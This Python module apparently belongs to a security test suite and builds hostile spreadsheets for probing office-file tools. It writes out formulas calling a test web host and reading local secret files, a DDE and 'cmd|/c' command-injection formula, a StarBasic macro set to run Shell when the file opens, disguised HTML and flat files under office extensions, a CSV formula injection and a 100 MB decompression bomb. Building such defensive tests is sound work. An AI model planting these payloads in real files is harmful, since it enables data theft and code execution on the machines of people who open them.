"""Workbooks whose formulas, macros and tables reach out, that are something else, or that swell."""

import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

from suite.attacks.model import Attack, Call, Scene
from suite.attacks.office import READS, book, red_outside


def reaching_book(scene: Scene) -> None:
    """A workbook whose formulas ask the web, another file, and another program."""
    from xlsxwriter import Workbook

    formulas = (
        f'=WEBSERVICE("http://{scene.web}/service")',
        f'=HYPERLINK("http://{scene.web}/link","click")',
        f"='http://{scene.web}/[book.xlsx]S'!A1",
        f"='file://{scene.outside}/[secret.txt]S'!A1",
        f"='{scene.outside}/[secret.txt]secret'!A1",
        '=DDE("soffice","' + str(scene.outside / "secret.txt") + '","a1")',
        "=cmd|'/c touch pwned'!A1",
        f'=IMAGE("http://{scene.web}/image.png")',
        "=INDIRECT(\"'file://" + str(scene.outside) + "/secret.txt'#$secret.A1\")",
    )
    with Workbook(str(scene.root / "a.xlsx")) as made:
        sheet = made.add_worksheet("S")
        for row, formula in enumerate(formulas):
            sheet.write_formula(row, 0, formula, value="old")


REACHES: tuple[Call, ...] = (
    ("read_range", {"path": "a.xlsx", "sheet": "S", "show": "both"}),
    ("recalculate_workbook", {"path": "a.xlsx"}),
    ("check_formulas", {"path": "a.xlsx"}),
    ("render_range", {"path": "a.xlsx", "sheet": "S", "range": "A1:C12"}),
    ("export_workbook_pdf", {"path": "a.xlsx", "target": "a.pdf"}),
    ("convert_workbook", {"path": "a.xlsx", "target": "a.ods"}),
)

ODS = "application/vnd.oasis.opendocument.spreadsheet"
SPACES = " ".join(
    f'xmlns:{prefix}="{space}"'
    for prefix, space in {
        "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
        "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
        "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
        "script": "urn:oasis:names:tc:opendocument:xmlns:script:1.0",
        "xlink": "http://www.w3.org/1999/xlink",
        "dom": "http://www.w3.org/2001/xml-events",
        "manifest": "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0",
        "library": "http://openoffice.org/2000/library",
        "ooo": "http://openoffice.org/2004/office",
    }.items()
)


def ods(path: Path, body: str, *, before: str = "", more: Mapping[str, str] | None = None) -> None:
    """A spreadsheet as LibreOffice writes them."""
    content = {
        "mimetype": ODS,
        "content.xml": f'<office:document-content {SPACES} office:version="1.2">{before}<office:body>'
        f"<office:spreadsheet>{body}</office:spreadsheet></office:body></office:document-content>",
        **(more or {}),
    }
    entries = "".join(
        f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="text/xml"/>' for name in content
    )
    content["META-INF/manifest.xml"] = (
        f'<manifest:manifest {SPACES}><manifest:file-entry manifest:full-path="/" manifest:media-type="{ODS}"/>'
        f"{entries}</manifest:manifest>"
    )
    with zipfile.ZipFile(path, "w") as made:
        for name, text in content.items():
            made.writestr(name, text)


def macro_book(scene: Scene) -> None:
    """A spreadsheet with a macro that runs when it is opened, shown, copied and closed."""
    canary = scene.outside / "pwned.txt"
    code = (
        f'Sub Go\n Open "{canary}" For Output As #1\n Print #1, "x"\n Close #1\n Shell("touch {canary}.shell")\nEnd Sub'
    )
    listeners = "".join(
        f'<script:event-listener script:language="ooo:script" script:event-name="{event}" xlink:type="simple" '
        'xlink:href="vnd.sun.star.script:Standard.Module1.Go?language=Basic&amp;location=document"/>'
        for event in ("dom:load", "office:load-finished", "office:view-created", "office:copy-to", "dom:unload")
    )
    library = 'library:name="Standard" library:readonly="false" library:passwordprotected="false"'
    ods(
        scene.root / "a.ods",
        '<table:table table:name="S"><table:table-row><table:table-cell office:value-type="string">'
        "<text:p>open me</text:p></table:table-cell></table:table-row></table:table>",
        before=f"<office:scripts><office:event-listeners>{listeners}</office:event-listeners></office:scripts>",
        more={
            "Basic/script-lc.xml": f'<library:libraries {SPACES}><library:library library:name="Standard" '
            'library:link="false"/></library:libraries>',
            "Basic/Standard/script-lb.xml": f"<library:library {SPACES} {library}>"
            '<library:element library:name="Module1"/></library:library>',
            "Basic/Standard/Module1.xml": '<script:module xmlns:script="http://openoffice.org/2000/script" '
            f'script:name="Module1" script:language="StarBasic">{code.replace("&", "&amp;")}</script:module>',
        },
    )


def linking_ods(scene: Scene) -> None:
    """A spreadsheet with tables that come from elsewhere."""
    ods(
        scene.root / "a.ods",
        "".join(
            f'<table:table table:name="S{number}"><table:table-source xlink:href="{address}" table:mode="copy-all" '
            'table:filter-name="Text - txt - csv (StarCalc)"/><table:table-row><table:table-cell '
            f'table:formula="of:=WEBSERVICE(&quot;http://{scene.web}/ods&quot;)"/></table:table-row></table:table>'
            for number, address in enumerate((f"http://{scene.web}/table.csv", f"file://{scene.outside}/secret.txt"))
        ),
    )


def disguised(text: str, name: str) -> Callable[[Scene], None]:
    """Something else under an office name: LibreOffice goes by what it sees."""

    def plant(scene: Scene) -> None:
        red = red_outside(scene)
        (scene.root / name).write_text(text.replace("{web}", scene.web).replace("{out}", str(red.parent)))

    return plant


PAGE = (
    '<html><body><table><tr><td>1</td></tr></table><img src="http://{web}/a.png"><img src="file://{out}/red.png">'
    '<link rel="stylesheet" href="http://{web}/a.css"><iframe src="file://{out}/secret.txt"></iframe></body></html>'
)
CSV = '"=WEBSERVICE(""http://{web}/csv"")",2\n"=HYPERLINK(""http://{web}/csv"")",3\n'
FODS = (
    f'<?xml version="1.0"?><office:document {SPACES} office:mimetype="{ODS}" office:version="1.2"><office:body>'
    '<office:spreadsheet><table:table table:name="S"><table:table-source xlink:href="file://{out}/secret.txt"/>'
    '<table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;http://{web}/fods&quot;)"/>'
    "</table:table-row></table:table></office:spreadsheet></office:body></office:document>"
)


def swollen(scene: Scene) -> None:
    """A workbook with a part of a hundred megabytes in half of one."""
    path = book(scene)
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as made,
        made.open("xl/media/image1.png", "w", force_zip64=True) as part,
    ):
        part.write(bytes(100_000_000))


def far_cells(scene: Scene) -> None:
    """A workbook of two cells that spans all rows and columns."""
    from xlsxwriter import Workbook

    with Workbook(str(scene.root / "a.xlsx")) as made:
        sheet = made.add_worksheet("S")
        sheet.write("A1", 1)
        sheet.write("XFD1048576", 2)


ATTACKS = (
    Attack("formulas that reach out", reaching_book, REACHES),
    Attack("a macro that runs on opening", macro_book, (("convert_workbook", {"path": "a.ods", "target": "b.xlsx"}),)),
    Attack("tables from elsewhere", linking_ods, (("convert_workbook", {"path": "a.ods", "target": "b.xlsx"}),)),
    *(
        Attack(f"{what} named {name}", disguised(text, name), ((tool, arguments),), refused=".")
        for what, text, name, tool, arguments in (
            ("a web page", PAGE, "a.xlsx", "convert_workbook", {"path": "a.xlsx", "target": "b.ods"}),
            ("a web page", PAGE, "a.ods", "convert_workbook", {"path": "a.ods", "target": "b.xlsx"}),
            ("a web page", PAGE, "a.xls", "convert_workbook", {"path": "a.xls", "target": "b.xlsx"}),
            ("a web page", PAGE, "a.pptx", "render_slides", {"path": "a.pptx"}),
            ("a web page", PAGE, "a.docx", "render", {"path": "a.docx"}),
            ("a flat spreadsheet", FODS, "a.xlsx", "convert_workbook", {"path": "a.xlsx", "target": "b.ods"}),
            ("a flat spreadsheet", FODS, "a.ods", "convert_workbook", {"path": "a.ods", "target": "b.xlsx"}),
        )
    ),
    Attack(
        "a CSV with formulas",
        disguised(CSV, "a.csv"),
        (
            ("convert_workbook", {"path": "a.csv", "target": "c.xlsx"}),
            ("import_csv", {"source": "a.csv", "path": "b.xlsx"}),
            ("recalculate_workbook", {"path": "b.xlsx"}),
        ),
    ),
    Attack("a workbook with a swollen part", swollen, READS["a.xlsx"], may_refuse=True),
    Attack(
        "two cells at the ends of a sheet",
        far_cells,
        (
            ("get_workbook_info", {"path": "a.xlsx"}),
            ("read_range", {"path": "a.xlsx", "sheet": "S"}),
            ("query_table", {"path": "a.xlsx", "sheet": "S"}),
            ("profile_table", {"path": "a.xlsx", "sheet": "S"}),
            ("check_workbook", {"path": "a.xlsx"}),
        ),
        may_refuse=True,
    ),
)
